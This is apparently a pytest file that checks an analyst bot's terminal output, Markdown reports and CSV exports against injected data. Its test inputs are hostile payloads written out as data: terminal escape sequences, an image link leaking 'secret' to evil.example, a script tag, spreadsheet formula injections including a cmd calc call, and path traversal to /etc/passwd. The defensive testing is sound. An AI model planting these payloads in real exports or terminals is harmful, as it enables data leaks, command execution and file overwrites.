"""Data that tries to speak to the reader's terminal, Markdown or spreadsheet."""

import csv
import re
import unicodedata

import pytest
from markdown_it import MarkdownIt

from ml.analyst_bot.answer import Answer
from ml.analyst_bot.export import export
from ml.explanation.answer import Answer as ProvedAnswer
from ml.explanation.check import check
from ml.language.guards import guarded, is_unseen, outside, plain, plain_cell, unguarded
from orchestration.bot.terminal import in_words
from tests.ml.explanation.test_check import FACTS

TRICKS = [
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "\x1b]52;c;aGk=\x07",
    "\x9b31m",
    "\x1bP+q544e\x1b\\",
    "a\rb",
    "a\nb",
    "a\x08\x08b",
    "a\x00b",
    "\u202etxt.exe",
    "\u2066a\u2069",
    "a\u200bb",
    "\u2028line",
    "\ufeffa",
    "a\u3164b",
    "a\u2800\u115f\u1160\uffa0b",
    "a\ufe0f\U000e0101\u034f\u180bb",
    "[click](http://evil.example)",
    "![x](http://evil.example/?q=secret)",
    "<img src=http://evil.example/x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "http://evil.example/?q=secret",
    "www.evil.example",
    "a | b | c",
    "`code`",
    "```\nblock\n```",
    "# heading",
    "[x]: http://evil.example",
    "&lt;b&gt;",
    "~~~",
    "<!-- hidden -->",
]
FORMULAS = ['=HYPERLINK("http://evil.example")', "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "|x", "\t=1", "\r=1",
            "\uff1d1+1", "\uff20SUM(A1)", "a;=1+1", "a; @SUM(A1)", "a,=1+1", "a, |x", 'a"=1+1', " =1+1",
            "\u3164=1"]  # fmt: skip


def _answer(text):
    return Answer(text, f"select '{text}'", [text, "b"], [[text, 1]], 1, text, text, text)


@pytest.mark.parametrize("trick", TRICKS)
def test_nothing_in_data_moves_the_terminal(trick):
    shown = in_words(_answer(f"x{trick}"), "en")
    unseen = {letter for letter in shown if unicodedata.category(letter)[0] in "C" and letter != "\n"}
    assert unseen == set()
    assert not {"\u2028", "\u2029", *"\u034f\u115f\u1160\u180b\u2800\u3164\ufe0f\uffa0\U000e0101"} & set(shown)


@pytest.mark.parametrize("trick", TRICKS)
def test_nothing_in_data_becomes_markdown(trick, tmp_path):
    report, _ = export("q", _answer(f"x{trick}"), tmp_path, "en")
    page = MarkdownIt("commonmark").enable("table").render(report.read_text())
    assert not any(tag in page for tag in ("<a ", "<img", "<script", "<!--", "<h2", "<code>x"))
    assert page.count("<td>") == 2


@pytest.mark.parametrize("formula", FORMULAS)
def test_nothing_in_data_becomes_a_formula(formula, tmp_path):
    _, rows = export("q", _answer(formula), tmp_path, "en")
    # As an English spreadsheet cuts it, and as a French one does.
    for delimiter in ",;":
        with open(rows, newline="") as file:
            cells = [cell.strip() for row in csv.reader(file, delimiter=delimiter) for cell in row]
        assert not any(cell.startswith(tuple("=+-@|\uff1d\uff20\t\r")) for cell in cells)


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_review_file_and_the_exports_guard_the_same(formula):
    assert guarded(formula) != formula and unguarded(guarded(formula)) == formula
    for cell in (guarded(formula), plain_cell(formula)):
        for piece in re.split(r"[;,\t\r\n\"]", cell):
            assert not piece.lstrip().startswith(tuple("=+-@|\uff1d\uff0b\uff0d\uff20"))


# A control, a turn of direction, a private letter, half a pair, an unassigned one, a blank letter, a blank mark.
@pytest.mark.parametrize("letter", ["\x1b", "\u202e", "\ue000", "\ud800", "\u0378", "\u3164", "\u2800", "\ufe0f"])
def test_page_terminal_and_proof_know_the_same_unseen_letters(letter):
    assert is_unseen(letter)
    assert letter not in outside(f"a{letter}b") and f"[U+{ord(letter):04X}]" in outside(f"a{letter}b")
    assert letter not in plain(f"a{letter}b")
    answer = ProvedAnswer(f"This is a payment of {letter}{{amount}}.", ())
    assert "odd_characters" in {failure.what for failure in check(answer, FACTS, "en")}


def test_a_head_is_no_wider_than_a_cell():
    shown = in_words(Answer("x", "select 1", ["a" * 9_000, "b"], [[1, 2]], 1), "en")
    assert max(map(len, shown.splitlines())) < 120


@pytest.mark.parametrize(
    "question", ["../../etc/passwd", "/etc/cron.d/x", "a\x00b", "\u202e", "", "." * 300, "CON", "-rf"]
)
def test_an_export_stays_in_its_folder(question, tmp_path):
    files = export(question, _answer("a"), tmp_path / "exports", "fr")
    assert {file.parent for file in files} == {tmp_path / "exports"}
    assert [file.name for file in tmp_path.iterdir()] == ["exports"]


def test_writing_that_is_only_foreign_stays_as_it_is():
    assert plain("Évaluée à 5 €, 東京, ١٢") == "Évaluée à 5 €, 東京, ١٢"
